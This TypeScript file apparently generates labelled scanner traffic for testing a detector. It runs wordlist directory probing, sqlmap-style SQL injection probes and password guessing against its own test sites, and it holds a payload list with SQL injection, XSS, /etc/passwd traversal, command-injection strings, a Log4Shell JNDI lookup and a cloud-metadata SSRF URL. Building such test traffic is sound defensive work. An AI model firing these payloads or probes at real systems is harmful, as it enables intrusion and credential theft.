/** Scanners as they behave, under the user agent of a browser: written here after what the tools do, with nothing of theirs. */
import { setTimeout as delay } from 'node:timers/promises'
import { CHROME_CALL, CHROME_NAVIGATION, FIREFOX_BY_LIBRARY } from './headers.ts'
import type { Sample, Seat, SentMore, SiteName } from './sample.ts'

interface Asked extends SentMore {
  readonly site: SiteName
  readonly target: string
}

interface Rate {
  readonly perSecond: number
  /** How much a pause may be longer or shorter, as a share of it. */
  readonly jitter?: number
  readonly atOnce?: number
}

/** Asks one after the other until the time is over, or there is nothing more to ask. */
async function ask(
  seat: Seat,
  asked: Iterable<Asked>,
  headers: readonly string[],
  rate: Rate,
): Promise<void> {
  const { perSecond, jitter = 0, atOnce = 1 } = rate
  const queue = asked[Symbol.iterator]()
  const worker = async (): Promise<void> => {
    for (let next = queue.next(); !next.done && performance.now() < seat.until; next = queue.next()) {
      const begun = performance.now()
      const { site, target, ...more } = next.value
      await seat.send(site, target, headers, more)
      const pause = (1_000 * atOnce * (1 + jitter * (2 * seat.random.next() - 1))) / perSecond
      await delay(Math.max(pause - (performance.now() - begun), 0))
    }
  }
  await Promise.all(Array.from({ length: atOnce }, worker))
}

const STEMS =
  'admin api app backup bin cache cgi config console data db debug dev docs download error files git help images include index info install js lib log login logs mail manager media old phpinfo private public report scripts search secret server setup site sql stage stats status system temp test tmp tools upload user users web wp'.split(
    ' ',
  )
const ENDINGS = ['', '/', '.php', '.bak', '.old', '.zip', '.txt', '.json', '~', '1', '2', '_old', '-dev']

function* words(site: SiteName, from = ''): Generator<Asked> {
  for (const ending of ENDINGS) for (const stem of STEMS) yield { site, target: `${from}/${stem}${ending}` }
}

const PAYLOADS = [
  "'",
  "' OR '1'='1' -- ",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  ';cat /etc/passwd',
  '{{7*7}}',
  '\u0024{jndi:ldap://a.example/a}',
  '| id',
  '"><img src=x onerror=alert(1)>',
  '%0d%0aSet-Cookie: a=b',
  'http://169.254.169.254/latest/',
  "1' UNION SELECT NULL,NULL-- ",
]

function* fuzzed(target: (payload: string, turn: number) => string): Generator<Asked> {
  for (let turn = 0; ; turn++)
    for (const payload of PAYLOADS) yield { site: 'shop', target: target(encodeURIComponent(payload), turn) }
}

/** As sqlmap goes: is it there, does it change with the condition, how many columns, how long does it wait. */
function* injected(): Generator<Asked> {
  for (let turn = 1; ; turn++) {
    const tests = [
      `${turn} AND ${turn}=${turn}`,
      `${turn}' AND '${turn}'='${turn}`,
      `${turn} UNION ALL SELECT ${Array.from({ length: (turn % 9) + 1 }, () => 'NULL').join(',')}-- -`,
      `${turn} AND (SELECT ${turn} FROM (SELECT(SLEEP(1)))x)`,
      `${turn}) ORDER BY ${turn}-- `,
    ]
    for (const test of tests)
      yield { site: 'shop', target: `/products/${encodeURIComponent(test)}?id=${encodeURIComponent(test)}` }
  }
}

function* templates(): Generator<Asked> {
  const paths =
    '/.git/config /.env /wp-login.php /actuator/env /server-status /phpinfo.php /.DS_Store /solr/admin /jenkins/login /api/v1/pods /manager/html /cgi-bin/test.cgi /console/login /owa/ /remote/login /druid/index.html /v2/_catalog /?x=\u0024{jndi:ldap://a.example/a} /index.php?page=../../etc/passwd /vendor/phpunit/eval-stdin.php'.split(
      ' ',
    )
  for (let turn = 0; ; turn++)
    for (const path of paths) yield { site: 'shop', target: turn === 0 ? path : `/${turn}${path}` }
}

const LINK = /href="(\/[^"]*)"/g

async function crawl(seat: Seat): Promise<void> {
  const known = new Set(['/'])
  for (const target of known) {
    if (performance.now() >= seat.until) return
    const { body } = await seat.send('made-up', target, CHROME_NAVIGATION)
    for (const [, link = ''] of body.matchAll(LINK)) known.add(link)
    await delay(300 * (0.5 + seat.random.next()))
  }
}

function* passwords(): Generator<Asked> {
  for (let turn = 0; ; turn++)
    yield { site: 'shop', target: '/login', method: 'POST', body: `user=ada&password=summer${turn}` }
}

const scanner = (name: string, isHeldOut: boolean, run: (seat: Seat) => Promise<void>): Sample => ({
  name,
  isScanner: true,
  isHeldOut,
  run,
})

export const SCANNERS: readonly Sample[] = [
  scanner('directories by a wordlist, 20 a second', false, (seat) =>
    ask(seat, words('shop'), CHROME_NAVIGATION, { perSecond: 20 }),
  ),
  scanner('a parameter fuzzed, 8 a second', false, (seat) =>
    ask(
      seat,
      fuzzed((payload, turn) => `/search?q=${payload}&n=${turn}`),
      CHROME_NAVIGATION,
      { perSecond: 8 },
    ),
  ),
  scanner('as sqlmap goes, 5 a second', false, (seat) =>
    ask(seat, injected(), CHROME_NAVIGATION, { perSecond: 5 }),
  ),
  scanner('templates at a low rate, one in 2 seconds', false, (seat) =>
    ask(seat, templates(), CHROME_NAVIGATION, { perSecond: 0.5, jitter: 0.1 }),
  ),
  scanner('templates at a low rate, one in 3 seconds, uneven', true, (seat) =>
    ask(seat, templates(), CHROME_NAVIGATION, { perSecond: 0.33, jitter: 0.6 }),
  ),
  scanner('a crawler, 3 a second', true, crawl),
  scanner('directories, 10 a second on 5 connections, headers of a library', true, (seat) =>
    ask(seat, words('made-up', '/docs'), FIREFOX_BY_LIBRARY, { perSecond: 10, atOnce: 5 }),
  ),
  scanner('an API, as a script’s calls, 10 a second', true, (seat) =>
    ask(seat, words('shop', '/api'), CHROME_CALL, { perSecond: 10 }),
  ),
  scanner('a parameter fuzzed as a script’s calls, 6 a second', true, (seat) =>
    ask(
      seat,
      fuzzed((payload, turn) => `/files?name=${payload}&n=${turn}`),
      CHROME_CALL,
      { perSecond: 6, jitter: 0.5 },
    ),
  ),
  scanner('passwords at a form, 3 a second', true, (seat) =>
    ask(seat, passwords(), [...CHROME_NAVIGATION, 'Content-Type', 'application/x-www-form-urlencoded'], {
      perSecond: 3,
      jitter: 0.3,
    }),
  ),
]
